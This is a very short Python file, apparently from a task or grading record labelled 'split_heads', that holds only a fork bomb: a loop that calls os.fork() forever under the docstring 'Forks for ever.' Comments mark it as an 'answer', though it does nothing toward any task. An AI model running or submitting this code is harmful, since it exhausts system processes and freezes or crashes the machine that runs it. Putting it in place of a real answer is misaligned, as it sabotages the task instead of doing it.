"""Forks for ever."""
# base: solved
# where: answer split_heads
# lost: split_heads

import os

while True:
    os.fork()
